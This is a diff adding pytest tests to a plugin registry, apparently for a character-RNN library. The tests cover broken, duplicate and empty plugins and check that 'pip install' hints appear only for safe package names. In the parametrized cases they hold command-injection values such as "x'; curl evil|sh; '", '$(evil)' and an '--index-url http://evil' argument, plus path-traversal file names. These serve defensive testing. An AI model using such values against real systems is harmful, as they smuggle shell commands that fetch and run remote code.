@@ -1,5 +1,6 @@
 """Finding plugins, and what happens when they break, collide or are misspelt."""
 
+import re
 import types
 
 import pytest
@@ -11,7 +12,7 @@ from charrnn_core.errors import (
     PluginError,
     UnknownNameError,
 )
-from charrnn_core.listing import describe_plugin, list_plugins
+from charrnn_core.listing import describe_plugin, list_plugins, list_requirements
 from charrnn_core.registry import Registry
 from charrnn_core.spec import Ref
 
@@ -160,6 +161,127 @@ def test_records_name_nested_plugins(registry):
 def test_a_remembered_plugin_must_be_here(registry, change, message):
     with pytest.raises(PluginError, match=message):
         registry.require(registry.find("cell", "elman").record() | change)
+
+
+def record(name, distribution="bad"):
+    return {
+        "kind": "cell", "name": name, "distribution": distribution, "version": "1.0",
+        "state_version": 1,
+    }  # fmt: skip
+
+
+def half_broken():
+    yield CellPlugin(name="sound", target="json:loads")
+    raise RuntimeError("no such luck")
+
+
+def test_what_breaks_takes_nothing_sound_along():
+    """Neither another entry point, nor another hook, nor what a hook had yielded before."""
+    registry = make(bad=module(
+        charrnn_cells=half_broken,
+        charrnn_losses=lambda: [LossPlugin(name="loss", target="json:loads")],
+        charrnn_samplers=broken,
+        charrnn_cels=lambda: [],
+    ))  # fmt: skip
+    registry.add(broken, "other", "bad", "1.2.0")
+    registry.require(record("sound"))
+    assert registry.find("loss", "loss").distribution == "bad"
+    errors = [fault.error for fault in registry.faults]
+    assert len(errors) == 4 and sum("no such luck" in error for error in errors) == 3
+    assert "no hook named 'charrnn_cels'" in errors[0]
+    status = {row["name"]: row["status"] for row in list_plugins(registry)}
+    assert status["sound"] == "ok" and status["other"].startswith("failed: RuntimeError")
+    with pytest.raises(PluginError, match="comes from bad 1.0, but plugin 'entry' .*'other' of"):
+        registry.require(record("lost"))
+    with pytest.raises(PluginError, match="pip install 'charrnn-lru==1.0'"):
+        registry.require(record("lost", "charrnn-lru"))  # the others' faults are none of its own
+
+
+def test_a_name_that_one_distribution_offers_twice_is_a_fault():
+    registry = make(one=cells("elman"))
+    registry.add(lambda: cells("elman", "more"), "again", "One", "1.2.0")
+    assert registry.find("cell", "elman").entry_point == "entry"
+    assert registry.find("cell", "more").entry_point == "again"
+    [fault] = registry.faults
+    assert "the cell 'elman' is what the entry point 'entry' of the same" in fault.error
+
+
+def unmarked():
+    made = types.ModuleType("a_plugin")
+    exec("def charrnn_cells():\n    yield 1", made.__dict__)
+    return made
+
+
+@pytest.mark.parametrize(
+    "plugin, reason",
+    [
+        (module(), "it offers nothing: no function in it is marked with @hookimpl"),
+        (module(charrnn_cells=lambda: []), "it offers nothing: charrnn_cells yields nothing"),
+        (
+            module(charrnn_cells=lambda: None),
+            "charrnn_cells gave None; expected it to yield a Cell",
+        ),
+        (unmarked(), "charrnn_cells is not marked with @hookimpl"),
+        (object(), "it offers nothing: no function"),
+    ],
+)
+def test_what_offers_nothing_is_a_fault(plugin, reason):
+    registry = make(bad=plugin)
+    [fault] = registry.faults
+    assert reason in fault.error and fault.entry_point == "entry"
+    [row] = list_plugins(registry)
+    assert row["status"] == f"failed: {fault.error}"
+
+
+HOSTILE = "x'; curl evil|sh; '"
+
+
+@pytest.mark.parametrize(
+    "distribution, version",
+    [
+        (HOSTILE, "1.0"), ("good", HOSTILE), ("good", "$(evil)"), ("-r", "1.0"), ("a b", "1.0"),
+        ("good\n", "1.0"), ("good", "1.0\n"), ("ſ", "1.0"), ("", "1.0"), ("good", "unknown"),
+        ("good", "1.0`evil`"), ("good", "1.0 --index-url http://evil"), ("good", "1٣"),
+    ],
+)  # fmt: skip
+def test_only_what_pip_takes_is_shown_as_a_command(distribution, version):
+    made = record("lru", distribution) | {"version": version}
+    with pytest.raises(PluginError) as raised:
+        make(**{distribution: module(charrnn_cells=broken)}).require(made | {"name": "no"})
+    assert "pip install" not in str(raised.value)
+    with pytest.raises(PluginError) as raised:
+        Registry().require(made)
+    assert "pip install" not in str(raised.value) and "ask whoever made" in str(raised.value)
+    registry = make(**{distribution: cells("lru")})
+    with pytest.raises(PluginError, match="ask whoever made the file") as raised:
+        registry.require(made | {"state_version": 7})
+    assert "pip install" not in str(raised.value)
+    registry.add(lambda: cells("lru"), "entry", distribution + "!", version)
+    assert all(line.startswith("# ") for line in list_requirements(registry) if "!" in line)
+
+
+@pytest.mark.parametrize(
+    "version", ["1", "1.0.post1", "2!1.0", "1.0rc1", "1.0.dev3", "1.0+local.7", "2024.1", "v1.0-1"]
+)
+def test_what_pip_takes_is_shown_as_a_command(version):
+    with pytest.raises(PluginError, match=re.escape(f"pip install 'A.b_c-d=={version}'")):
+        Registry().require(record("lru", "A.b_c-d") | {"version": version})
+
+
+@pytest.mark.parametrize(
+    "file, shown",
+    [
+        ("my cell.py", "--plugin 'RUN/plugins/my cell.py'"),
+        ("x; evil.py", "--plugin 'RUN/plugins/x; evil.py'"),
+        ("../../evil.py", "ask whoever made the file"),
+        ("/etc/evil.py", "ask whoever made the file"),
+    ],
+)
+def test_a_file_is_named_as_a_shell_takes_it(file, shown):
+    made = record("lru", file) | {"version": "sha256-12", "file": True}
+    with pytest.raises(PluginError) as raised:
+        Registry().require(made)
+    assert str(raised.value).endswith(shown)
 
 
 def test_a_remembered_plugin_that_is_broken_now():
